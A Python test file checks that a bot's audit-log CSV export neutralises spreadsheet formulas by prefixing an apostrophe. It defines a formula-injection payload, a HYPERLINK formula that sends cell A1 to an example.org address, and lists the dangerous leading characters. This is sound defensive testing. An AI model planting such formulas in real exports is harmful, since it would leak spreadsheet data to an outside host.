"""What someone types ends up in the audit trail as typed; the CSV export the team lead opens
in a spreadsheet must show it as text, never run it as a formula."""

import csv
import io
from datetime import UTC, datetime

from bot.models import AuditEvent
from bot.services.audit import export as audit_export
from bot.services.csv_export import neutralise

LOOKUP = '=HYPERLINK("http://example.org/?"&A1,"klik")'


async def _export(sessionmaker, tz) -> list[list[str]]:
    async with sessionmaker() as session:
        rows = await audit_export.rows_since(session, datetime(2026, 1, 1, tzinfo=UTC), tz)
    text, _ = audit_export.to_csv(rows)
    return list(csv.reader(io.StringIO(text, newline="")))


async def test_a_formula_typed_as_a_case_code_is_text_in_the_audit_export(
    member, sessionmaker, config
):
    anna = await member("Anna de Vries")
    await anna.say(f"/case {LOOKUP}")
    await anna.reply()
    exported = await _export(sessionmaker, config.tz)
    cells = [cell for row in exported[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


async def test_every_dangerous_first_character_is_neutralised(sessionmaker, config):
    dangerous = ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    async with sessionmaker() as session:
        for n, text in enumerate(dangerous):
            session.add(
                AuditEvent(
                    at=datetime(2026, 11, 23, 8, n, tzinfo=UTC),
                    action="case.view",
                    outcome="ok",
                    subject=text,
                    detail=text,
                )
            )
        session.add(AuditEvent(at=datetime(2026, 11, 23, 9, tzinfo=UTC), action="x", outcome="ok"))
        await session.commit()
    rows = (await _export(sessionmaker, config.tz))[1:]
    assert [row[4] for row in rows[:6]] == ["'" + text for text in dangerous]
    assert [row[6] for row in rows[:6]] == ["'" + text for text in dangerous]
    assert rows[6][4] == ""  # ordinary cells unchanged
    assert neutralise("GZ-1042") == "GZ-1042"
